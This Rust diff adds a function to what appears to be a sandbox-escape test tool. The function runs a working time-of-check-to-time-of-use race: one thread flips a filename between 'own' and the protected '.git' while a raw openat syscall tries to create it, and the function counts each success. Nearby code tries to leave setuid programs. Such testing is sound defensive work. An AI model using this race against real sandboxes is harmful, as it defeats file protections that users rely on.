@@ -152,6 +152,43 @@ const WAYS: &[(&str, Way)] = &[
     ("old-replace-parent", replace_parent),
 ];
 
+/// Opens a file that is there while another thread turns its name into a protected one: whoever
+/// looks at the name once and lets the kernel look again is fooled. Says how often the file came
+/// into being. Without a number of rounds it goes on until that has happened once.
+pub(crate) fn race(rounds: usize) -> io::Result<()> {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    const HARMLESS: u64 = u64::from_ne_bytes(*b"own\0\0\0\0\0");
+    const PROTECTED: u64 = u64::from_ne_bytes(*b".git\0\0\0\0");
+    own_file("own")?;
+    let (name, is_over) = (AtomicU64::new(HARMLESS), AtomicBool::new(false));
+    let mut n_made = 0;
+    std::thread::scope(|scope| {
+        scope.spawn(|| {
+            while !is_over.load(Ordering::Relaxed) {
+                name.store(PROTECTED, Ordering::Relaxed);
+                name.store(HARMLESS, Ordering::Relaxed);
+            }
+        });
+        for round in 0.. {
+            let is_enough = if rounds == 0 { n_made > 0 } else { round == rounds };
+            if is_enough {
+                break;
+            }
+            std::thread::yield_now();
+            let path = name.as_ptr() as usize;
+            if let Ok(fd) = call(libc::SYS_openat, &[HERE, path, MAKE as usize, 0o644]) {
+                call(libc::SYS_close, &[fd]).ok();
+            }
+            if Path::new(".git").exists() {
+                n_made += 1;
+                remove(".git").ok();
+            }
+        }
+        is_over.store(true, Ordering::Relaxed);
+    });
+    writeln!(io::stdout(), "{n_made}")
+}
+
 /// Tries to leave programs in the current directory that run as their owner; a line for each way.
 pub(crate) fn set_user() -> io::Result<()> {
     const SET_USER: usize = 0o4755;
